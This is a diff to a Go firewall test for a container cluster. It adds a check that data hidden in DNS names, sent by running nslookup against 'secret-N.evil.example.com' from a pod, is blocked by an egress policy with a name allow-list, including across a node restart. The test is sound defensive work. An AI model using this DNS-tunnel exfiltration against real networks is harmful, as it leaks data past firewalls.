@@ -14,7 +14,7 @@ import (
 // firewall. Each way works without the firewall, or never works.
 func TestFirewallCannotBeBypassed(t *testing.T) {
 	c := kit.Shared(t)
-	newOutside(t, c)
+	o := newOutside(t, c)
 	c.Apply(task("client"))
 	c.WaitPodRunning("client")
 	service := func(name, annotations string) {
@@ -55,4 +55,47 @@ subsets: [{addresses: [{ip: 203.0.113.1}], ports: [{port: 8080}]}]
 			t.Errorf("the API server forwards to the endpoint: %s", page)
 		}
 	}
+	checkTunnel(t, c, o)
+}
+
+// checkTunnel sends data in names that a pod asks the node's DNS server for. The firewall denies
+// all addresses. Without a restriction of names, the data reaches the names' own DNS server.
+func checkTunnel(t *testing.T, c *kit.Cluster, o *outside) {
+	t.Helper()
+	number := 0
+	// send returns the output of the pod's query, and the name, which was never used before.
+	send := func() (output, name string) {
+		number++
+		name = fmt.Sprintf("secret-%d.evil.example.com.", number)
+		output, _ = c.TryOC("exec", "client", "--", "timeout", "10", "nslookup", name)
+		return output, name
+	}
+	c.WaitFor("data through the node's DNS server", func(context.Context) error {
+		if output, name := send(); !o.received(name) {
+			return fmt.Errorf("nslookup prints %q", output)
+		}
+		return nil
+	})
+	o.set("www.foo.com.", "A 203.0.113.1")
+	c.Apply(firewall("default", "Allow www.foo.com", "Deny 0.0.0.0/0"))
+	c.OC("annotate", "egressnetworkpolicy", "default", "slipway.openshift.io/resolve=allowed-names")
+	c.WaitFor("rejection of names that no rule allows", func(context.Context) error {
+		if _, name := send(); o.received(name) {
+			return fmt.Errorf("the DNS server of %s receives it", name)
+		}
+		return nil
+	})
+	waitExternal(c, "www.foo.com", "203.0.113.1")
+	c.Kill("node")
+	c.WaitFor("node process after kill -9", func(context.Context) error {
+		output, name := send()
+		if o.received(name) {
+			t.Errorf("the DNS server of %s receives it while the node process starts", name)
+		}
+		if !strings.Contains(output, "NXDOMAIN") {
+			return fmt.Errorf("nslookup prints %q", output)
+		}
+		return nil
+	})
+	waitExternal(c, "www.foo.com", "203.0.113.1")
 }
